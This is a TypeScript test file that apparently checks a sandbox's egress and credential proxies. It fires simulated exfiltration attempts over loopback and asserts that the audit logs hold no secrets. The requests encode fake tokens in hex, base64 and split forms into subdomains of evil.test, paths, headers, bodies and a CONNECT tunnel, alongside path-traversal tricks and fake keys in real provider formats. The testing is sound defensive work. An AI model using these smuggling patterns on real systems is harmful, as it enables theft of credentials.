// After an attack suite against the egress proxy and the credential proxy (real servers on
// loopback, real content checks, real audit files in one audit folder), no audit file holds the
// bottle's secrets (raw, any case, hex, base64, a long piece) or any detector's positive sample.
// Every *.jsonl file of the folder is read, whatever gate wrote it. Fake tokens, built from pieces.
import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import type net from "node:net";
import os from "node:os";
import path from "node:path";
import { describe, it } from "node:test";
import { CredentialProxy } from "../../src/sidecar/credentials/credential-proxy.js";
import type { CredentialAuditEntry } from "../../src/sidecar/credentials/credential-proxy.js";
import { OwnSecrets } from "../../src/sidecar/dlp/own-secrets.js";
import { AuditLog } from "../../src/sidecar/shared/audit-log.js";
import { auditedEgressProxy, interceptRule, sendRaw } from "../helpers/egress-harness.js";

const TOKEN = ["bbfake", "Q7xK2mN9pR4vT8wZ", "3hJ6audit"].join("-");
const ROUTE_TOKEN = ["sk", "ant", "api03", "FAKEauditroute0123456789abcdefXYZ"].join("-");
const GIT_TOKEN = ["glpat", "FAKEauditgit0123456789"].join("-");
const hex32 = "0123456789abcdef".repeat(2);
// Detector samples, one per family, built from pieces.
const SAMPLES = [
  ["gh", "p_FAKEfakeFAKEfake0123456789abcdefAB"].join(""),
  ["AK", "IAFAKEFAKEFAKE1234"].join(""),
  ["sk-ant-", "api03-FAKEfakeFAKEfake0123456789"].join(""),
  ["npm", "_FAKEfakeFAKEfake0123456789abcdefABCD"].join(""),
  ["sk_", "live_FAKEfakeFAKEfake0123"].join(""),
  ["xox", "b-0123456789-FAKEfakeFAKEfake"].join(""),
  ["gl", "pat-FAKEfakeFAKE01234567"].join(""),
  ["AI", "zaFAKEfakeFAKEfake0123456789abcdefghi"].join(""),
  ["S", "K", "0a1b2c3d4e5f60718293a4b5c6d7e8f9"].join(""),
  ["dapi", hex32].join(""),
  ["hf", "_FAKEfakeFAKEfake0123456789abcdefgh"].join(""),
  ["pplx", "-", "FAKEfake".repeat(6)].join(""),
  ["postgres://app:", "Zq7Xw2Vb9Nm4Kd8R", "@db.internal/app"].join(""),
  ["password", "=", "Zq7Xw2Vb9Nm4Kd8Rt"].join(""),
];

async function egressAttacks(file: string): Promise<void> {
  const policy = {
    allow: [interceptRule("allowed.test", { ports: [80], paths: ["/ok/"], methods: ["GET"] })],
    deny: [],
  };
  const { proxy, stop } = await auditedEgressProxy(file, policy, [TOKEN, ROUTE_TOKEN, GIT_TOKEN]);
  const hex = Buffer.from(TOKEN).toString("hex");
  const b64 = Buffer.from(TOKEN).toString("base64url");
  const get = (url: string, extra = ""): string =>
    `GET ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${extra}Connection: close\r\n\r\n`;
  const post = (body: string): string =>
    `POST http://allowed.test/ok/x HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`;
  const attacks = [
    get(`http://${TOKEN.toLowerCase()}.evil.test/`),
    get(
      `http://${TOKEN.toLowerCase().slice(0, 20)}.${TOKEN.toLowerCase().slice(20)}.allowed.test/ok/`,
    ),
    get(`http://allowed.test/nope/${TOKEN}`),
    get(`http://allowed.test/ok/..;/${TOKEN}`),
    get(`http://allowed.test/ok/${b64}`),
    get(`http://allowed.test/ok/x?a=${TOKEN.slice(0, 12)}&b=${TOKEN.slice(12)}`),
    get(`http://${hex.slice(0, 60)}.${hex.slice(60)}.evil.test/`),
    get("http://allowed.test/ok/x", `${TOKEN}: 1\r\n`),
    get("http://allowed.test/ok/x", `X-${hex}: 1\r\n`),
    get("http://allowed.test/ok/x", `Authorization: Bearer ${GIT_TOKEN.toUpperCase()}\r\n`),
    post(`{"note":"${ROUTE_TOKEN}"}`),
    `CONNECT ${hex.slice(0, 60)}.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n`,
    ...SAMPLES.flatMap((sample) => [
      get(`http://allowed.test/ok/${encodeURIComponent(sample)}`),
      get(`http://allowed.test/nope/${encodeURIComponent(sample)}`),
      get(`http://allowed.test/ok/x?_method=${encodeURIComponent(sample)}`),
      post(`config:\n  ${sample}\n`),
    ]),
  ];
  try {
    for (const attack of attacks) {
      const answer = (await sendRaw(proxy.address(), attack)).toString("latin1");
      assert.match(answer, /^HTTP\/1\.1 (400|403) /, attack.split("\r\n")[0]);
    }
  } finally {
    await stop();
  }
}

async function credentialAttacks(file: string): Promise<void> {
  const log = new AuditLog<CredentialAuditEntry>(file);
  const upstream = http.createServer((req, res) => {
    req.resume();
    res.end(`echo ${ROUTE_TOKEN.toUpperCase()}`);
  });
  await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
  const base = `http://127.0.0.1:${(upstream.address() as net.AddressInfo).port}`;
  const proxy = new CredentialProxy({
    routes: [{ name: "api", path: "/api", upstream: base, role: null, inject: "x-api-key" }],
    audit: (entry) => {
      log.write(entry);
    },
  });
  await proxy.listen({ host: "127.0.0.1", port: 0 });
  proxy.setTokens({ api: ROUTE_TOKEN });
  proxy.setOwnSecrets([GIT_TOKEN, TOKEN]);
  const request = (target: string, headers = "", body = ""): string =>
    `POST ${target} HTTP/1.1\r\nHost: x\r\n${headers}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
  try {
    for (const attack of [
      request(`/api/v1/${encodeURIComponent(GIT_TOKEN)}`),
      request(`/api/v1/x?k=${Buffer.from(TOKEN).toString("base64")}`),
      request(`/api/${TOKEN}/../x`),
      request("/api/v1/x", `X-${Buffer.from(ROUTE_TOKEN).toString("hex")}: 1\r\n`),
      request("/api/v1/x", "", `{"t":"${GIT_TOKEN}"}`),
      request(`/nothing/${TOKEN}`),
      request("/api/v1/reflect"),
    ]) {
      await sendRaw(proxy.address(), attack);
    }
  } finally {
    await proxy.stop();
    upstream.closeAllConnections();
    await new Promise<void>((resolve) => {
      upstream.close(() => {
        resolve();
      });
    });
    await log.close();
  }
}

describe("audit files after the attack suite", () => {
  it("hold no secret of the bottle and no detector's sample", { timeout: 60_000 }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bb-audit-"));
    await egressAttacks(path.join(dir, "egress.jsonl"));
    await credentialAttacks(path.join(dir, "credentials.jsonl"));
    const files = fs.readdirSync(dir).filter((name) => name.endsWith(".jsonl"));
    assert.deepEqual(files.sort(), ["credentials.jsonl", "egress.jsonl"]);
    const grep = new OwnSecrets([TOKEN, ROUTE_TOKEN, GIT_TOKEN, ...SAMPLES]);
    for (const name of files) {
      const written = fs.readFileSync(path.join(dir, name), "utf8");
      assert.ok(written.split("\n").filter(Boolean).length >= 7, `${name} is short`);
      assert.equal(grep.foundIn(written), false, `${name} holds a secret`);
      for (const secret of [TOKEN, ROUTE_TOKEN, GIT_TOKEN, ...SAMPLES]) {
        assert.ok(!written.toLowerCase().includes(secret.toLowerCase().slice(0, 14)), name);
      }
    }
  });
});
